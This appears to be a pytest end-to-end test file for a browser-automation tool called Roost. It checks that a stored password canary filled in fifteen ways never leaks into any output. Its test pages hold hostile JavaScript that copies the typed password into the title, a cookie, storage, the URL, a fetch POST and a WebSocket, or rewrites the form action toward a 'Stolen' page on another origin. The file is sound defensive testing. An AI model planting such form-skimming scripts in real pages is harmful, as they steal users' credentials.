"""A secret of the person reaches the fields it is meant for, and no byte that leaves Roost."""

from __future__ import annotations

import asyncio
import base64
import contextlib
import json
from collections.abc import AsyncIterator, Awaitable, Callable
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any, Literal
from urllib.parse import quote

import pytest
from websockets.asyncio.server import ServerConnection, serve

from roost import ops
from roost.api.page_views import ActionView
from roost.errors import NotActionable, NotFound, PolicyDenied, RoostError, Unsupported
from roost.vocabulary import NoticeKind, QuestionAnswer
from tests.e2e.pages.secret_doors import over_all_doors
from tests.support.agent import Agent
from tests.support.house import House
from tests.support.local_web import Web

CANARY = "c4nary&'\"<ü>-9Zq+/secret"
ENCODINGS = {
    "plain": CANARY.encode(),
    "url": quote(CANARY, safe="").encode(),
    "base64": base64.b64encode(CANARY.encode()).rstrip(b"="),
    "json": json.dumps(CANARY)[1:-1].encode(),
    "hex": CANARY.encode().hex().encode(),
}


class Replies:
    """Every reply and error that the agent got, as it was sent."""

    def __init__(self, agent: Agent) -> None:
        self.agent = agent
        self.seen: list[str] = []
        self.doors: dict[str, bytes] = {}
        """What the other doors said."""

    async def call(self, operation: Any) -> Any:
        try:
            view = await self.agent.call(operation)
        except RoostError as error:
            self.seen.append(json.dumps(error.to_wire(), default=str, ensure_ascii=False))
            raise
        self.seen.append(json.dumps(view.to_wire(), default=str, ensure_ascii=False))
        return view

    async def fill(self, target: str, secret: str = "canary") -> ActionView:
        view: ActionView = await self.call(ops.FillSecret(target=target, secret=secret))
        return view

    async def look_around(self) -> None:
        """Ask for everything that could show what stands in the page."""
        for operation in (
            ops.Snapshot(max_chars=500),
            ops.Snapshot(),
            ops.GetContent(format="html"),
            ops.GetContent(format="text"),
            ops.GetContent(format="markdown"),
            *(ops.GetContent(format="text", max_length=length) for length in (10, 15, 20)),
            ops.Find(text="c4nary"),
            ops.PageState(),
            ops.NetworkRequests(),
            ops.ConsoleMessages(),
            ops.TakeScreenshot(annotate=True),
            ops.Tabs(action="list"),
            ops.Downloads(),
        ):
            try:
                await self.call(operation)
            except PolicyDenied:
                assert isinstance(operation, ops.TakeScreenshot)

    async def look_deeper(self) -> None:
        """Ask for what the page has sent and stored."""
        for number in range(1, (await self.call(ops.NetworkRequests())).total + 1):
            with contextlib.suppress(RoostError):  # some requests have no body
                await self.call(ops.NetworkRequest(index=number))
        with contextlib.suppress(Unsupported):  # Firefox does not tell of them
            await self.call(ops.NetworkMessages())
            await self.call(ops.NetworkMessages(filter="c4n"))
        for operation in (
            ops.Cookies(action="get", name="draft"),
            ops.StorageState(action="save", filename="canary.json", overwrite=True),
            ops.Get(what="title"),
            ops.Get(what="url"),
        ):
            await self.call(operation)


async def _allow_all(house: House, session: str, told: list[str]) -> None:
    """Answer the session's questions as the person: yes, for this session. Adds all notices to
    ``told``."""
    async with house.operator() as operator:
        with operator.watch(session) as notices:
            async for notice in notices:
                told.append(json.dumps(notice.data, ensure_ascii=False))
                if notice.kind == NoticeKind.QUESTION_ASKED:
                    answer = QuestionAnswer.SESSION
                    await operator.call(ops.SessionAnswer(session=session, answer=answer))


@asynccontextmanager
async def _user(house: House, web: Web) -> AsyncIterator[Replies]:
    """An agent whose person has a secret for the first of the two sites, and allows its use."""
    async with house.operator() as operator:
        await operator.call(ops.SecretAdd(name="canary", origins=[web.base], value=CANARY))
    async with house.agent(web, session="canary") as agent:
        user = Replies(agent)
        person = asyncio.get_running_loop().create_task(
            _allow_all(house, agent.session, user.seen), name="person"
        )
        try:
            yield user
        finally:
            person.cancel()
            await asyncio.gather(person, return_exceptions=True)


async def _value(web: Web, path: str) -> str | None:
    """Return the last form that the site got, or None."""
    found = [one for one in web.requests if one.path.startswith(path)]
    return found[-1].body.decode() if found else None


def _form(body: str, *, action: str = "/take", script: str = "") -> str:
    return (
        f"<form method=post action='{action}'>{body}<button>Log in</button></form>"
        f"<script>{script}</script>"
    )


PASSWORD = "<input type=password name=p id=p aria-label=Password>"


async def _refused(call: Awaitable[Any], kind: type[RoostError] = NotActionable) -> RoostError:
    with pytest.raises(kind) as refusal:
        await call
    return refusal.value


async def _plain(user: Replies, web: Web) -> None:
    await user.agent.show(_form("<input name=p id=p aria-label=Key>"))
    await user.fill("#p")
    await user.look_around()


async def _editor(user: Replies, web: Web) -> None:
    await user.agent.show("<div contenteditable id=p aria-label=Note role=textbox></div>")
    await user.fill("#p")
    await user.look_around()


async def _frame(user: Replies, web: Web) -> None:
    inner = web.page(_form(PASSWORD))
    await user.agent.show(f"<iframe src='{inner}'></iframe>")
    await user.call(ops.WaitFor(selector="iframe"))
    await user.fill("#p")
    await user.look_around()
    # A page of another site may not embed it.
    await user.agent.go(web.there(web.page(f"<iframe src='{inner}'></iframe>")))
    await _refused(user.fill("#p"), PolicyDenied)


async def _shadow(user: Replies, web: Web) -> None:
    await user.agent.show(
        f"<div id=host></div><script>host.attachShadow({{mode: 'open'}}).innerHTML ="
        f" `{PASSWORD}`</script>"
    )
    await user.fill("text=Password")
    await user.look_around()


async def _submit(user: Replies, web: Web) -> None:
    await user.agent.show(_form(PASSWORD))
    await user.fill("#p")
    await user.call(ops.PressKey(key="Enter"))
    await user.call(ops.WaitFor(text="Taken"))
    body = await _value(web, "/take")
    assert body is not None
    assert quote(CANARY, safe="*-._").replace("%20", "+") in body, "the site has the value"
    await user.look_around()  # the site's answer shows it
    # The document is left, so scripts are allowed again.
    await user.call(ops.Evaluate(function="() => 1"))


async def _failing(user: Replies, web: Web) -> None:
    await user.agent.show("<input type=password id=p disabled aria-label=Password>")
    await _refused(user.fill("#p"))
    await _refused(user.fill("#nothing"), NotFound)
    await user.agent.go(web.there(web.page(_form(PASSWORD))))
    await _refused(user.fill("#p"), PolicyDenied)
    await user.look_around()


async def _dialog(user: Replies, web: Web) -> None:
    await user.agent.show(_form(PASSWORD, script="p.oninput = () => alert('Got ' + p.value)"))
    view = await user.fill("#p")
    assert view.dialog is not None
    await user.call(ops.HandleDialog(accept=True))
    await user.look_around()


async def _crash(user: Replies, web: Web) -> None:
    """The broker is killed after the value was filled in. The next one still refuses scripts."""
    await user.agent.show(_form(PASSWORD))
    await user.fill("#p")
    user.agent.house.kill_broker()
    await user.call(ops.Snapshot())
    await _refused(user.call(ops.Evaluate(function="() => document.querySelector('#p').value")),
                   PolicyDenied)  # fmt: skip
    await user.look_around()


async def _waiting_script(user: Replies, web: Web) -> None:
    """A script of the agent waits in the page, or in another tab that may reach the page."""
    tab = (await user.agent.show(_form(PASSWORD))).tab
    wait = "() => { p.oninput = () => { document.title = p.value } }"
    await user.call(ops.Evaluate(function=wait))
    await _refused(user.fill("#p"), PolicyDenied)
    other = await user.agent.open(web.page("<p>Other"))
    await user.call(ops.Evaluate(function="() => 1", tab=other))
    await user.call(ops.Tabs(action="select", tab=tab))
    await user.call(ops.Reload())
    await _refused(user.fill("#p"), PolicyDenied)
    await user.call(ops.Reload(tab=other))
    await user.fill("#p")
    await _refused(user.call(ops.Evaluate(function="() => 1", tab=other)), PolicyDenied)
    await user.call(ops.Close(tab=other))
    await user.look_around()


async def _talkative(user: Replies, web: Web) -> None:
    """A page tells the value to everything that it can tell: console, title, address, cookie,
    storage, requests, a WebSocket, the name of a file."""

    async def echo(socket: ServerConnection) -> None:
        async for message in socket:
            await socket.send(message)

    async with serve(echo, "127.0.0.1", 0) as server:
        port = server.sockets[0].getsockname()[1]
        script = f"""const socket = new WebSocket('ws://127.0.0.1:{port}/');
          socket.onmessage = () => {{ done.textContent = 'Told'; }};
          p.oninput = () => {{
            const value = p.value, coded = encodeURIComponent(value);
            console.log(value); console.error(value);
            document.title = value; document.cookie = 'draft=' + coded;
            localStorage.draft = value; history.replaceState(null, '', '?draft=' + coded);
            file.download = value + '.txt'; file.textContent = 'Save ' + value;
            fetch('/take?p=' + coded, {{method: 'POST', body: 'p=' + coded}}).then(() =>
              socket.readyState === 1 ? socket.send(value) : socket.onopen = () =>
                socket.send(value)); }}"""
        body = "<a id=file href='data:text/plain,x'>File</a><p id=done></p>"
        await user.agent.show(_form(PASSWORD + body, script=script))
        await user.call(ops.Har(action="start"))
        await user.fill("#p")
        await user.call(ops.WaitFor(text="Told"))
        await user.call(ops.Click(target="#file"))
        await user.look_around()
        await user.look_deeper()
        user.doors = await over_all_doors(user.agent.house, user.agent.session)
        saved = await user.call(ops.Har(action="stop", filename="canary.har", overwrite=True))
        await user.agent.go(web.page("<p>Left"))
        await user.call(ops.Storage(kind="local", action="get", key="draft"))
        assert "[secret canary]" in Path(saved.path).read_text(encoding="utf-8")  # noqa: ASYNC240
        for door, said in user.doors.items():
            assert b"[secret canary]" in said, door
        await user.call(ops.Storage(kind="local", action="clear"))


async def _rewritten_type(user: Replies, web: Web) -> None:
    for moment in ("onfocus", "oninput"):
        await user.agent.show(_form(PASSWORD, script=f"p.{moment} = () => {{ p.type = 'text' }}"))
        await _refused(user.fill("#p"))
        await user.look_around()
    # Later, a button that shows the password: nothing that Roost sends does.
    await user.agent.show(_form(PASSWORD) + "<b onclick=\"p.type = 'text'\" id=s>Show</b>")
    await user.fill("#p")
    await user.call(ops.Click(target="#s"))
    await user.call(ops.PressKey(key="x"))
    await user.look_around()
    await _refused(user.call(ops.TakeScreenshot()), PolicyDenied)


async def _rewritten_goal(user: Replies, web: Web) -> None:
    steal = web.there(web.page("Stolen"))
    await user.agent.show(_form(PASSWORD, action=steal))
    await _refused(user.fill("#p"))
    for moment in ("onfocus", "oninput"):
        script = f"p.{moment} = () => {{ document.forms[0].action = '{steal}' }}"
        await user.agent.show(_form(PASSWORD, script=script))
        await _refused(user.fill("#p"))
    script = f"document.forms[0].onsubmit = () => {{ document.forms[0].action = '{steal}' }}"
    await user.agent.show(_form(PASSWORD, script=script))
    await user.fill("#p")
    await user.call(ops.PressKey(key="Enter"))
    await user.call(ops.WaitFor(text="Stolen"))
    assert all(b"c4nary" not in one.body for one in web.requested(steal))
    await user.look_around()


async def _conditions(user: Replies, web: Web) -> None:
    """An init script or a route rule of the agent could read the value: set before it is filled in,
    removed since, or set afterwards."""
    steal = "addEventListener('input', (e) => { document.title = e.target.value }, true)"
    page = web.page(_form(PASSWORD))
    for add, remove in (
        (ops.InitScript(script=steal), ops.InitScript(remove=True)),
        (ops.Route(url="**/lib.js", body=steal), ops.Unroute()),
    ):
        await user.agent.show("<p>Without a secret")
        await user.call(add)
        await user.agent.go(page)
        await _refused(user.fill("#p"), PolicyDenied)
        await user.call(remove)
        await _refused(user.fill("#p"), PolicyDenied)  # the script may still be in the document
        await user.call(ops.Reload())
        await user.fill("#p")
        await _refused(user.call(add), PolicyDenied)
        shown = await user.call(ops.Conditions())
        assert (shown.routes, shown.scripts) == ([], [])
        await user.call(ops.Emulate(width=500, height=400))  # brings no script, so it is allowed
        await user.call(ops.Emulate(reset=True))
    await user.look_around()


async def _other_readers(user: Replies, web: Web) -> None:
    """All operations that run a script or read raw values are refused, as evaluating is."""
    await user.agent.show(_form(PASSWORD))
    await user.fill("#p")
    (user.agent.house.work / "empty.har").write_text('{"log": {"entries": []}}')
    read = "() => document.querySelector('#p').value"
    for operation in (
        ops.Evaluate(function=read),
        ops.WaitFor(function=f"() => {{ throw new Error(({read})()) }}"),
        *(ops.Storage(kind=kind, action="list") for kind in STORES),
        *(ops.Storage(kind=kind, action="set", key="a", value="b") for kind in STORES),
        ops.WebMcpCall(name="read", input={}),
        ops.Get(what="value", target="#p"),
        ops.Get(what="html", target="form"),
        ops.Get(what="attr", target="#p", name="value"),
        ops.RouteHar(path="empty.har"),
    ):
        await _refused(user.call(operation), PolicyDenied)
    await user.look_around()


async def _recorded(user: Replies, web: Web) -> None:
    """A HAR file and a storage state have the secret's name in the place of the value."""
    await user.call(ops.Har(action="start"))
    form = f"<form action='/take'>{PASSWORD}</form>"
    await user.agent.show(
        f"{form}<script>p.oninput = () => {{ localStorage.draft = p.value }}</script>"
    )
    await user.fill("#p")
    await user.call(ops.PressKey(key="Enter"))
    await user.call(ops.WaitFor(text="Taken"))
    for operation in (
        ops.Har(action="stop", filename="secret.har", overwrite=True),
        ops.StorageState(action="save", filename="secret.json", overwrite=True),
    ):
        path = (await user.call(operation)).path
        written = await asyncio.to_thread(Path(path).read_bytes)
        assert b"[secret canary]" in written
        assert not any(form in written for form in ENCODINGS.values())


STORES: tuple[Literal["local", "session", "indexeddb"], ...] = ("local", "session", "indexeddb")
WAYS: tuple[Callable[[Replies, Web], Awaitable[None]], ...] = (
    _plain, _editor, _frame, _shadow, _submit, _failing, _dialog, _rewritten_type,
    _rewritten_goal, _waiting_script, _conditions, _other_readers, _recorded, _talkative, _crash,
)  # fmt: skip


def _files(home: Path, work: Path) -> dict[str, bytes]:
    """Return all files and their names, but for the browsers' own."""
    found = {}
    for path in (*home.rglob("*"), *work.rglob("*")):
        is_browsers = path.is_relative_to(home / "browsers")
        if path.is_file() and not is_browsers:
            found[str(path)] = path.name.encode() + path.read_bytes()
    found |= {str(path): path.read_bytes() for path in (home / "browsers").glob("*/*.log")}
    return found


def _processes() -> bytes:
    """Return the command line and the environment of every process that may be looked at."""
    said = b""
    for process in Path("/proc").glob("[0-9]*"):
        for name in ("cmdline", "environ", "comm"):
            try:
                said += (process / name).read_bytes()
            except OSError:
                continue
    return said


@pytest.mark.timeout(240)
async def test_a_secret_filled_in_fifteen_ways_is_in_no_byte_that_left_roost(
    own_house: House, web: Web
) -> None:
    echo = b"<!doctype html><title>Taken</title><p>Taken: "
    web.serve(lambda request: _echoed(request.body, echo), "/take")
    async with _user(own_house, web) as user:
        for way in WAYS:
            await way(user, web)
        async with own_house.operator() as operator:
            with pytest.raises(NotFound):
                await operator.call(ops.SecretTest(name="nothing"))
            user.seen.append(json.dumps((await operator.call(ops.SecretList())).to_wire()))
        replies = "\n".join(user.seen).encode()
        processes = _processes()
    commands = own_house.says("log", "--operator", "--json").encode()
    places = {**_files(own_house.home.path, own_house.work), **user.doors}
    places |= {"replies": replies, "processes": processes, "roost log": commands}
    assert len(user.seen) > 50
    assert own_house.home.vault.exists()
    hits = [
        (place, name)
        for place, data in places.items()
        for name, form in ENCODINGS.items()
        if form in data
    ]
    assert hits == []


def _echoed(body: bytes, head: bytes) -> Any:
    """The site shows what it got: as it came, and decoded."""
    from html import escape
    from urllib.parse import parse_qs

    from tests.support.local_web import Answer

    value = parse_qs(body.decode()).get("p", [""])[0]
    return Answer(head + escape(value).encode() + b" " + escape(body.decode()).encode())
